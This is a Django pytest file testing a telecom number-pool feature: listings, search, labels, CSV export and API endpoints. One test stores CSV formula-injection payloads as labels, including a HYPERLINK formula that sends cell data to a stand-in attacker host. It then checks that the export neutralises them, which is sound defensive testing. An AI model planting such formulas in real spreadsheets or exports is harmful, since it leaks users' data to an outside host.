"""Tenant users see their numbers: pool numbers with inventory details, labels, search and
filters, CSV export, pool usage; and the same over the API."""

from decimal import Decimal

import pytest

from dids import services
from dids.models import Did

from ..conftest import api_client, login

pytestmark = pytest.mark.django_db


@pytest.fixture
def numbers(world):
    services.pool_save(tenant=world.a, text="16468097065-16468097080")
    services.pool_save(tenant=world.b, text="12125550000-12126549999")
    Did.objects.bulk_create(
        [
            Did(
                number=16468097065,
                status="active",
                sms_enabled=True,
                city="New York",
                country="US",
                monthly_fee=Decimal("1.5"),
            ),
            Did(number=16468097066, status="inactive", required_docs=["proof of address"]),
            Did(number=16468097067, status="released"),
            Did(number=12125550001, status="active", sms_enabled=True),
        ]
    )
    return world


def test_list_shows_pool_numbers_with_inventory(numbers):
    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/").content.decode()
    assert "+16468097065" in page and "New York" in page and "$1.50" in page
    needed = page.split('data-testid="documents-needed">')[1].split("</div>")[0]
    assert "Documents needed" in needed and "proof of address" in needed
    assert "1–16 of 16" in page
    assert "+12125550001" not in page


def test_filters_and_search(numbers):
    client = login(numbers.agent_a)
    url = f"/t/{numbers.a.slug}/numbers/"
    active = client.get(url + "?status=active").content.decode()
    assert "1–1 of 1" in active and "+16468097065" in active
    free = client.get(url + "?status=not_held").content.decode()
    assert "1–14 of 14" in free  # released numbers count as free
    sms = client.get(url + "?sms=yes").content.decode()
    assert "1–1 of 1" in sms
    prefix = client.get(url + "?q=%2B1646809707").content.decode()
    assert "1–10 of 10" in prefix


def test_a_search_that_only_looks_like_digits_is_text_not_a_500(numbers):
    """ "²" passes str.isdigit() but not int(): it is searched as text, like any other word."""
    client = login(numbers.admin_a)
    for url in [
        f"/t/{numbers.a.slug}/numbers/?q=%C2%B2",
        f"/t/{numbers.a.slug}/numbers/?q=%C2%B2&status=active",
        f"/t/{numbers.a.slug}/e911/?q=%C2%B2",
    ]:
        assert client.get(url).status_code == 200, url
    admin = login(numbers.sysadmin)
    for url in ["/platform/numbers/inventory/?q=%C2%B2", "/platform/numbers/e911/?q=%C2%B2"]:
        assert admin.get(url).status_code == 200, url
    who_owns = admin.get("/platform/numbers/?number=%C2%B2")
    assert "“²” is not a phone number: it has characters other than digits" in (
        who_owns.content.decode()
    )
    owner = api_client(numbers.sysadmin).get("/api/v1/pools/owner/?number=%C2%B2")
    assert owner.status_code == 400
    assert owner.json()["errors"]["number"] == [
        "“²” is not a phone number: it has characters other than digits (spaces, brackets, "
        "dots and dashes may separate them)."
    ]


def test_a_prefix_longer_than_a_number_matches_nothing(numbers):
    page = login(numbers.sysadmin).get("/platform/numbers/inventory/?q=1646809706500000")
    assert "+16468097065" not in page.content.decode()


def test_a_million_number_pool_pages_arithmetically(numbers, django_assert_max_num_queries):
    client = login(numbers.admin_b)
    with django_assert_max_num_queries(20):
        page = client.get(f"/t/{numbers.b.slug}/numbers/?page=40000").content.decode()
    assert "999976–1000000 of 1000000" in page and "+12126549999" in page


def test_label_a_number_then_search_by_label(numbers):
    client = login(numbers.admin_a)
    response = client.post(
        f"/t/{numbers.a.slug}/numbers/16468097070/",
        {"label": "Front desk", "description": "Reception line"},
    )
    assert response.status_code == 302
    page = client.get(f"/t/{numbers.a.slug}/numbers/?q=front").content.decode()
    assert "1–1 of 1" in page and "+16468097070" in page and "Reception line" in page


def test_agents_cannot_label(numbers):
    response = login(numbers.agent_a).post(
        f"/t/{numbers.a.slug}/numbers/16468097070/", {"label": "x"}
    )
    assert response.status_code == 403


def test_csv_export_of_the_filtered_list(numbers):
    response = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/export.csv?status=active")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("number,count,label,wavix_label,description,status")
    assert lines[1:] == ["16468097065,1,,,,Active,US,New York,Geographic or mobile,yes,1.5000,,"]


def test_export_of_a_million_numbers_lists_the_data_and_the_ranges_between(numbers):
    """A pool is exported by range: the numbers with data one by one, the rest as ranges."""
    from django_scopes import scope

    from dids.models import DidNote

    with scope(tenant=numbers.b):
        DidNote.objects.create(tenant=numbers.b, number=12126000000, label="Reception")
    response = login(numbers.agent_b).get(f"/t/{numbers.b.slug}/numbers/export.csv")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[1:] == [
        "12125550000,1,,,,Not held,,,,no,,,",
        "12125550001,1,,,,Active,,,Geographic or mobile,yes,,,",
        "12125550002-12125999999,449998,,,,Not held,,,,no,,,",
        "12126000000,1,Reception,,,Not held,,,Geographic or mobile,no,,,",
        "12126000001-12126549999,549999,,,,Not held,,,,no,,,",
    ]


def test_csv_exports_neutralise_formulas_but_not_numbers(numbers):
    """OWASP: a cell starting with = + - @ tab or CR is quoted as text; numbers are digits."""
    import csv
    import io

    api = api_client(numbers.admin_a, numbers.a)
    base = f"/api/v1/tenants/{numbers.a.slug}/numbers"
    hostile = {
        16468097065: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        16468097066: "+1+1",
        16468097067: "@SUM(A1:A9)",
        16468097068: "-2+3",
    }
    for number, label in hostile.items():
        assert api.patch(f"{base}/{number}/", {"label": label}, format="json").status_code == 200
    response = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    labels = {row[0]: row[2] for row in rows[1:]}
    for number, label in hostile.items():
        assert labels[str(number)] == "'" + label
    assert all(row[0][0].isdigit() for row in rows[1:])  # numbers are never quoted

    services.pool_save(tenant=numbers.a, text="16468097090", name="=1+1")
    pools = login(numbers.sysadmin).get("/platform/numbers/pools.csv")
    assert "acme,'=1+1,16468097090,1" in b"".join(pools.streaming_content).decode()


def test_pool_usage_counts_per_range(numbers):
    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/usage/").content.decode()
    row = page.split("16468097065-16468097080")[1].split("</tr>")[0]
    cells = [c.split("<")[0].strip() for c in row.split('class="text-end">')[1:]]
    # size, held, active, SMS-enabled, E911, free
    assert cells[:6] == ["16", "2", "1", "1", "0", "14"]


def test_api_numbers_usage_and_label(numbers):
    api = api_client(numbers.admin_a, numbers.a)
    base = f"/api/v1/tenants/{numbers.a.slug}"
    listing = api.get(f"{base}/numbers/?status=inactive").json()
    assert listing["count"] == 1
    assert listing["results"][0]["inventory"]["required_docs"] == ["proof of address"]
    patched = api.patch(f"{base}/numbers/16468097066/", {"label": "Fax"}, format="json")
    assert patched.status_code == 200 and patched.json()["label"] == "Fax"
    usage = api.get(f"{base}/pool-usage/").json()["results"]
    assert usage[0]["held"] == 2 and usage[0]["free"] == 14
    assert api.get(f"{base}/numbers/12125550001/").status_code == 404


def test_api_pools_for_system_administrators(numbers):
    api = api_client(numbers.sysadmin, None)
    preview = api.post(
        "/api/v1/pools/preview/",
        {"tenant": "acme", "numbers": "16468097065-16468097066;12125550005"},
        format="json",
    ).json()
    assert preview["ok"] is False
    assert preview["errors"] == ["12125550005 already belong to Globex Corporation (pool “Direct”)"]
    created = api.post(
        "/api/v1/pools/",
        {"tenant": "acme", "name": "Sales", "numbers": "14155550000-14155550099"},
        format="json",
    )
    assert created.status_code == 201 and created.json()["size"] == 100
    refused = api.post(
        "/api/v1/pools/",
        {"tenant": "globex", "name": "More", "numbers": "14155550050"},
        format="json",
    )
    assert refused.status_code == 400
    assert "14155550050 already belong to Acme Telecom" in str(refused.json()["errors"])
    again = api.post(
        "/api/v1/pools/",
        {"tenant": "acme", "name": "Sales", "numbers": "14155550100"},
        format="json",
    )
    assert "already has a pool named “Sales”" in str(again.json()["errors"]["name"])
    owner = api.get("/api/v1/pools/owner/?number=%2B12125550001").json()
    assert owner["tenant"] == "globex" and owner["inventory"]["sms_enabled"] is True


def test_the_wavix_label_and_the_tenants_label_are_named_apart(numbers):
    from django_scopes import scope

    from dids.models import DidNote

    Did.objects.filter(number=16468097065).update(label="Billing")
    Did.objects.filter(number=16468097066).update(label="Fax line")
    with scope(tenant=numbers.a):
        DidNote.objects.create(tenant=numbers.a, number=16468097066, label="Reception desk")
    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/").content.decode()
    assert "<th>Your label</th>" in page
    cells = page.split('data-testid="number-labels">')[1:3]
    # A number with only a Wavix label shows it, named as Wavix's (it used to show "—").
    assert "Wavix label: Billing" in cells[0] and "—" not in cells[0].split("</td>")[0]
    assert "Reception desk" in cells[1] and "Wavix label: Fax line" in cells[1]
    api = api_client(numbers.admin_a, numbers.a).get(
        f"/api/v1/tenants/{numbers.a.slug}/numbers/16468097066/"
    )
    assert api.json()["label"] == "Reception desk" and api.json()["wavix_label"] == "Fax line"
    admin = login(numbers.support).get("/admin/dids/did/").content.decode()
    assert "Wavix label" in admin


def test_the_type_column_is_filled_for_every_number(numbers):
    Did.objects.filter(number=16468097066).update(number_type="toll_free")
    page = login(numbers.agent_a).get(f"/t/{numbers.a.slug}/numbers/").content.decode()
    types = [c.split("<")[0] for c in page.split('data-testid="number-type">')[1:]]
    assert len(types) == 16 and all(types)
    assert types[1] == "Toll free"  # Wavix's type when it has one
    assert types[0] == "Geographic or mobile"  # else the numbering plan's
    listing = api_client(numbers.agent_a, numbers.a).get(
        f"/api/v1/tenants/{numbers.a.slug}/numbers/"
    )
    assert {r["number_type"] for r in listing.json()["results"]} == {
        "Toll free",
        "Geographic or mobile",
    }
